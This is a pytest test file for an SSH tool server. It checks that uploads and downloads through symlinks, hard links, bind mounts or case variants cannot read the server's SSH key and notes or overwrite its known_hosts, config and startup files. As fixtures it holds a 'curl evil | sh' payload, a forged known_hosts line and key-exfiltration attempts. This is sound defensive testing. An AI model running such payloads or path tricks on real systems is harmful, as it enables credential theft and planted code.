"""The server's own files are never a local_path, whatever SSH_LOCAL_TRANSFER_ROOTS say.

The roots are a temporary "home" of the server that holds the key hosts.toml logs in
with, the known_hosts the app checks against, its hosts.toml, audit log, job table and
notes: the worst case of an operator pointing the roots at the server's home.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from harness import Target, assert_audit, hosts_toml, make_settings, serve, text
from sshd import Sshd, TestKeys, TestUser

from ssh_mcp.config.settings import Settings
from ssh_mcp.core.app import build_app
from ssh_mcp.core.confine import confine_local
from ssh_mcp.errors import PathNotAllowed
from ssh_mcp.policy.confirm import DenyPatterns

pytestmark = pytest.mark.anyio


@pytest.fixture
def home(tmp_path: Path, test_keys: TestKeys, known_hosts_file: Path) -> Iterator[Path]:
    home = tmp_path / "server-home"
    (home / "keys").mkdir(parents=True)
    key = home / "keys" / "id_ed25519"
    shutil.copyfile(test_keys.plain, key)
    key.chmod(0o600)
    shutil.copyfile(known_hosts_file, home / "known_hosts")
    (home / "data.txt").write_text("ordinary data\n")
    (home / "innocent").symlink_to(key)  # a link inside the roots to the key
    os.link(key, home / "hardlinked")  # the same file under another name
    yield home


@pytest.fixture
def settings(home: Path, sshd: Sshd, test_user: TestUser, work_root: Path) -> Settings:
    key = home / "keys" / "id_ed25519"
    target = Target("target", sshd.port, test_user.name, key, (str(work_root),))
    return make_settings(
        home / "config",
        hosts_toml(target),
        home / "known_hosts",
        ssh_audit_log=home / "state" / "audit.jsonl",
        ssh_job_table=home / "state" / "jobs.json",
        ssh_host_notes_dir=home / "state" / "notes",
        ssh_local_transfer_roots=[str(home)],
        allow_low_access_tools=True,
    )


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("source", ["keys/id_ed25519", "innocent", "hardlinked", "known_hosts"])
async def test_uploading_the_servers_key_or_known_hosts_is_refused(
    source: str, settings: Settings, home: Path, work_dir: Path
) -> None:
    remote = work_dir / "stolen"
    async with serve(settings) as (client, app):
        args = {"host": "target", "path": str(remote), "local_path": str(home / source)}
        r = await client.call_tool("ssh_upload", args)
        assert r.is_error and "the server's own file" in text(r), text(r)
        assert not remote.exists()  # the secret never reached the host
        assert_audit(app, {"tool": "ssh_upload", "outcome": "denied", "error": "PathNotAllowed"})
        ok = {**args, "local_path": str(home / "data.txt")}
        r = await client.call_tool("ssh_upload", ok)  # the roots themselves still work
        assert not r.is_error and remote.read_text() == "ordinary data\n", text(r)


@pytest.mark.parametrize(
    "target",
    ["known_hosts", "keys/id_ed25519", "innocent", "config/hosts.toml", "state/jobs.json"],
)
async def test_downloading_onto_the_servers_files_is_refused(
    target: str, settings: Settings, home: Path, work_dir: Path, test_user: TestUser
) -> None:
    evil = work_dir / "evil"
    evil.write_text("[127.0.0.1]:1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil\n")
    os.chown(evil, test_user.uid, test_user.uid)
    local = home / target
    local.parent.mkdir(parents=True, exist_ok=True)
    before = _digest(local) if local.exists() else None
    async with serve(settings) as (client, app):
        args = {"host": "target", "path": str(evil), "local_path": str(local), "overwrite": True}
        r = await client.call_tool("ssh_sftp_download", args)
        assert r.is_error and "the server's own file" in text(r), text(r)
        assert_audit(
            app, {"tool": "ssh_sftp_download", "outcome": "denied", "error": "PathNotAllowed"}
        )
        assert (_digest(local) if local.exists() else None) == before  # byte-identical
        # A new file beside them is fine: only the server's own files are fenced off.
        r = await client.call_tool("ssh_sftp_download", {**args, "local_path": str(home / "x")})
        assert not r.is_error and (home / "x").read_bytes() == evil.read_bytes(), text(r)


async def test_audit_log_and_notes_are_fenced_off_too(
    settings: Settings, home: Path, work_dir: Path, test_user: TestUser
) -> None:
    src = work_dir / "f"
    src.write_text("x\n")
    os.chown(src, test_user.uid, test_user.uid)
    async with serve(settings) as (client, app):
        r = await client.call_tool("ssh_host_notes_append", {"host": "target", "text": "n\n"})
        assert not r.is_error, text(r)
        audit = home / "state" / "audit.jsonl"
        for local in (audit, home / "state" / "notes" / "new.md", home / "state"):
            args = {"host": "target", "path": str(src), "local_path": str(local)}
            r = await client.call_tool("ssh_sftp_download", {**args, "overwrite": True})
            assert r.is_error and "the server's own file" in text(r), text(r)
            assert_audit(app, {"tool": "ssh_sftp_download", "error": "PathNotAllowed"})
        assert all(line.startswith("{") for line in audit.read_text().splitlines())
        assert not (home / "state" / "notes" / "new.md").exists()


def test_protected_list_names_every_file_of_the_server(settings: Settings, home: Path) -> None:
    app = build_app(settings)
    try:
        protected = set(app.protected_local)
    finally:
        app.audit.close()
    files = ("keys/id_ed25519", "keys/id_ed25519.pub", "known_hosts", "config/hosts.toml")
    for name in (*files, "config/hosts.d"):
        assert str(home / name) in protected
    for name in ("audit.jsonl", "jobs.json", "jobs.json.lock", "notes"):
        assert str(home / "state" / name) in protected
    assert str(Path.home() / ".ssh") in protected


def test_confine_local_refuses_protected_paths_by_any_spelling(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("k")
    (tmp_path / "link").symlink_to(secret)
    os.link(secret, tmp_path / "hard")
    (tmp_path / "dir" / "state").mkdir(parents=True)
    roots, protected = [str(tmp_path)], [str(secret), str(tmp_path / "dir" / "state")]
    for name in ("secret", "link", "hard", "dir"):
        with pytest.raises(PathNotAllowed, match="the server's own file"):
            confine_local(str(tmp_path / name), roots, create=False, protected=protected)
    with pytest.raises(PathNotAllowed, match="the server's own file"):
        confine_local(str(tmp_path / "dir/state/x"), roots, create=True, protected=protected)
    assert confine_local(str(tmp_path / "new"), roots, create=True, protected=protected)


async def test_downloading_onto_a_startup_file_of_the_server_is_refused(
    settings: Settings, home: Path, work_dir: Path, test_user: TestUser
) -> None:
    """Roots over the server's home: its ~/.profile or ~/.config/autostart would run as the
    server's user. Reading such a file is fine (it is no secret); writing it is code."""
    src = work_dir / "payload"
    src.write_text("curl evil | sh\n")
    os.chown(src, test_user.uid, test_user.uid)
    (home / ".profile").write_text("# the server user's profile\n")
    (home / ".config" / "autostart").mkdir(parents=True)
    async with serve(settings) as (client, app):
        for local in (home / ".profile", home / ".config" / "autostart" / "x.desktop"):
            args = {"host": "target", "path": str(src), "local_path": str(local)}
            r = await client.call_tool("ssh_sftp_download", {**args, "overwrite": True})
            assert r.is_error and "the server's own logins or services" in text(r), text(r)
            assert_audit(app, {"tool": "ssh_sftp_download", "error": "PathNotAllowed"})
        assert (home / ".profile").read_text() == "# the server user's profile\n"
        assert not (home / ".config" / "autostart" / "x.desktop").exists()
        up = {
            "host": "target",
            "path": str(work_dir / "copy"),
            "local_path": str(home / ".profile"),
        }
        r = await client.call_tool("ssh_upload", up)
        assert not r.is_error, text(r)


@pytest.fixture
def mirror(home: Path) -> Iterator[Path]:
    """The notes directory bind-mounted at another name inside the roots: the same files
    under a spelling no string comparison knows, as a case-insensitive disk gives
    ``~/.SSH/id_ed25519`` for ``~/.ssh/id_ed25519`` (the directory is protected, its
    files are not named one by one)."""
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("a bind mount needs root")
    notes = home / "state" / "notes"
    notes.mkdir(parents=True)
    (notes / "target.md").write_text("the operator's private note\n")
    at = home / "mirror"
    at.mkdir()
    subprocess.run(["mount", "--bind", str(notes), str(at)], check=True)
    try:
        yield at
    finally:
        subprocess.run(["umount", str(at)], check=True)


async def test_a_protected_directory_under_another_name_is_refused(
    settings: Settings, mirror: Path, work_dir: Path
) -> None:
    remote = work_dir / "stolen-through-mount"
    async with serve(settings) as (client, app):
        args = {"host": "target", "path": str(remote), "local_path": str(mirror / "target.md")}
        r = await client.call_tool("ssh_upload", args)
        assert r.is_error and "the server's own file" in text(r), text(r)
        assert not remote.exists()  # the note never reached the host
        assert_audit(app, {"tool": "ssh_upload", "outcome": "denied", "error": "PathNotAllowed"})


async def test_a_hard_link_to_a_file_in_a_protected_directory_is_refused(
    settings: Settings, home: Path, work_dir: Path
) -> None:
    notes = home / "state" / "notes"
    notes.mkdir(parents=True)
    (notes / "target.md").write_text("the operator's private note\n")
    os.link(notes / "target.md", home / "note-link")
    remote = work_dir / "stolen-note"
    async with serve(settings) as (client, _):
        args = {"host": "target", "path": str(remote), "local_path": str(home / "note-link")}
        r = await client.call_tool("ssh_upload", args)
        assert r.is_error and "the server's own file" in text(r), text(r)
        assert not remote.exists()


@pytest.mark.parametrize("name", [".BASHRC", ".ZshRC", "Library/LaunchAgents/evil.plist"])
def test_a_download_onto_a_startup_file_in_another_case_is_refused(
    tmp_path: Path, name: str
) -> None:
    """On a case-insensitive disk (macOS) ~/.ZSHRC is ~/.zshrc; LaunchAgents run at login."""
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    with pytest.raises(PathNotAllowed, match="the server's own logins or services"):
        confine_local(
            str(tmp_path / name),
            [str(tmp_path)],
            create=True,
            runs_later=DenyPatterns.build().match_path,
        )
